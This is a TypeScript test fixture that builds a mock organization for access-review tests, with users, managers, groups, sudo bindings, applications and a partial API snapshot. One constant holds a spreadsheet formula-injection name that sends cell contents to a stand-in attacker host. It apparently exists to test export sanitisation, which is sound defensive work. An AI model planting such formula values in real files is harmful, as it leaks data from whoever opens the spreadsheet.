/**
 * The small organization the review tests share: a manager chain (boss manages ann, bob and carl), a
 * suspended user, a direct binding beside a group one (redundant), sudo from a group association, an
 * admin-like application, a dynamic group, and a user whose name a spreadsheet would run as a formula.
 */
import type { TenantData } from '../../src/model/index.ts';
import type { SnapshotMeta } from '../../src/snapshot/index.ts';
import { SUDO, TenantBuilder } from '../analysis/tenant-builder.ts';

/** A name that a spreadsheet would run as a formula. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** The coverage of a fetch the API refused one list: a partial snapshot's. */
export const PARTIAL_COVERAGE: NonNullable<SnapshotMeta['coverage']> = {
  complete: false,
  planned: 10,
  gaps: [
    {
      collection: 'list:v2:/softwareapps',
      endpoint: 'GET /api/v2/softwareapps',
      state: 'unread',
      cause: 'http',
      status: 403,
      attempts: 1,
      message: 'The API refused the list (403).',
      provides: { kind: 'objects', types: ['software_app'] },
    },
  ],
};

export function reviewTenant(): TenantData {
  const b = new TenantBuilder();
  // boss manages himself (the head of the company): his own items are self-reviews.
  const boss = b.user('boss', { manager: 'user-boss' });
  const ann = b.user('ann', { manager: boss.id, department: 'Engineering' });
  const bob = b.user('bob', { manager: boss.id, department: 'Engineering' });
  const carl = b.user('carl', { manager: boss.id, state: 'SUSPENDED', suspended: true });
  const eve = b.add(
    'user',
    FORMULA_NAME,
    {
      email: 'eve@example.com',
      state: 'ACTIVATED',
      suspended: false,
      activated: true,
      account_locked: false,
      manager: 'it-lead@example.com',
    },
    'user-eve',
  );
  const engineering = b.userGroup('Engineering');
  const ops = b.userGroup('Ops');
  const all = b.dynamicGroup('user_group', 'All Staff', 'DYNAMIC_AUTOMATED', [['userState', 'eq', 'active']]);
  const web = b.systemGroup('Web');
  const web01 = b.system('web-01');
  const web02 = b.system('web-02');
  const db01 = b.system('db-01');
  const slack = b.add('application', 'Slack');
  const aws = b.add('application', 'AWS Console');
  b.member(engineering, ann).member(engineering, bob).member(engineering, boss).member(engineering, carl);
  b.member(ops, bob).member(ops, eve);
  b.member(all, ann).member(all, bob).member(all, boss).member(all, eve);
  b.member(web, web01).member(web, web02);
  b.associate(engineering, web, SUDO);
  b.associate(ops, db01, SUDO);
  b.associate(ann, db01);
  b.associate(ops, web01);
  b.associate(bob, web01);
  b.associate(all, slack);
  b.associate(bob, aws);
  return b.build('org-review');
}
